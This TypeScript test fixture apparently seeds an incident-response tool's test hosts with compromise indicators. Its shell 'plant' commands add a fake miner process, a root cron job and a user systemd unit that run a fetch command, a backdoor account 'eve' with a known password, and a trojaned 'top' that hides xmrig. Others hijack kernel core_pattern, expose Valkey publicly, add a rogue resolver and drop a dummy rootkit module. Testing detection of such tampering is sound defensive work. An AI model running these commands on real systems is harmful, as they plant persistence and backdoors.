import { blockC2 } from '../../../src/actions/block-c2.ts';
import { killProcess } from '../../../src/actions/kill-process.ts';
import { patch } from '../../../src/actions/patch.ts';
import { resetKeys } from '../../../src/actions/reset-keys.ts';
import { append, FETCH, type Plant, write } from './plant.ts';

/** What runs, who may log in, what tools and kernel are told: the rest that a scan looks at and a step answers. */
export const SETTINGS: readonly Plant[] = [
  {
    mechanism: 'process',
    name: 'a miner that runs',
    paths: [],
    isAbout: (subject) => subject.kind === 'process' && subject.process.name === 'kdevtmpfsi',
    by: killProcess,
    plant: `mkdir -p /tmp/.x; cp /bin/sleep /tmp/.x/kdevtmpfsi; setsid /tmp/.x/kdevtmpfsi 900 </dev/null >/dev/null 2>&1 &
until grep -q kdevtmpfsi /proc/$!/cmdline; do sleep 0.05; done`,
  },
  {
    mechanism: 'connection',
    name: 'an address that an entry names',
    paths: [],
    isAbout: (subject) => subject.kind === 'connection' && subject.remoteAddress === '203.0.113.20',
    by: blockC2,
    isStillShown: true,
    plant: write('/etc/cron.d/fetches', `* * * * * root ${FETCH}`),
  },
  {
    mechanism: 'user-unit',
    name: 'a unit of a user that is enabled',
    paths: ['/home/ann/.config/systemd/user/sync.service'],
    plant: `${write('/home/ann/.config/systemd/user/sync.service', `[Service]\nExecStart=/bin/sh -c '${FETCH}'\n[Install]\nWantedBy=default.target`)}
mkdir -p /home/ann/.config/systemd/user/default.target.wants
ln -s ../sync.service /home/ann/.config/systemd/user/default.target.wants/sync.service`,
  },
  {
    mechanism: 'account',
    name: 'an account of an intruder, which is locked',
    paths: [],
    isAbout: (subject) => subject.kind === 'account' && subject.account === 'eve',
    by: resetKeys,
    parameters: { accounts: ['eve'] },
    isStillShown: true,
    plant: `useradd -u 1666 -g 0 -M -d /home/eve -s /bin/bash eve; echo eve:eve-has-this | chpasswd`,
  },
  {
    mechanism: 'listed-shell',
    name: 'a shell that is listed and is none',
    paths: ['/etc/shells'],
    plant: append('/etc/shells', '/dev/shm/.sh'),
  },
  {
    mechanism: 'host-key',
    name: 'the keys of the host, which are replaced',
    paths: ['/etc/ssh/ssh_host_ed25519_key'],
    by: resetKeys,
    parameters: { 'host-keys': true },
    isStillShown: true,
    plant: 'touch -d @1500000000.123456789 /etc/ssh/ssh_host_*',
  },
  {
    mechanism: 'changed-tool',
    name: 'a tool that was replaced by a script',
    paths: ['/usr/bin/top'],
    plant: `rm /usr/bin/top; ${write('/usr/bin/top', '#!/bin/sh\n/usr/bin/top.original "$@" | grep -v xmrig', '755')}`,
  },
  {
    mechanism: 'renamed-tool',
    name: 'a tool under another name',
    paths: ['/usr/bin/cdt'],
    plant: 'cp -p /usr/bin/lsattr /usr/bin/cdt',
  },
  {
    mechanism: 'kernel-setting',
    name: 'a program that the kernel starts when another crashes',
    paths: ['/etc/sysctl.d/98-dumps.conf'],
    plant: write('/etc/sysctl.d/98-dumps.conf', 'vm.swappiness=10\nkernel.core_pattern=|/var/tmp/.c/core %p'),
  },
  {
    mechanism: 'entry-point',
    name: 'a Redis that answers everybody, as Valkey',
    paths: ['/etc/valkey/valkey.conf'],
    by: patch,
    plant: write('/etc/valkey/valkey.conf', 'port 6380\nbind 0.0.0.0\nprotected-mode no'),
  },
  {
    mechanism: 'hidden-name',
    name: 'a file whose name ends in a blank',
    paths: ['/usr/lib/udevd '],
    plant: "printf odd >'/usr/lib/udevd '; touch -d @1600000000.5 '/usr/lib/udevd '",
  },
  {
    mechanism: 'resolver',
    name: 'a resolver that nobody knows, below the own one',
    paths: ['/etc/resolv.conf:2'],
    plant: write('/etc/resolv.conf', 'nameserver 10.0.0.2\nnameserver 203.0.113.53'),
  },
  {
    mechanism: 'kernel-module',
    name: 'a module of no package',
    paths: ['MODULES/kernel/net/diamorphine.ko'],
    plant: `mkdir -p "/lib/modules/$(uname -r)/kernel/net"; printf '\\177ELFodd' >"/lib/modules/$(uname -r)/kernel/net/diamorphine.ko"`,
  },
];
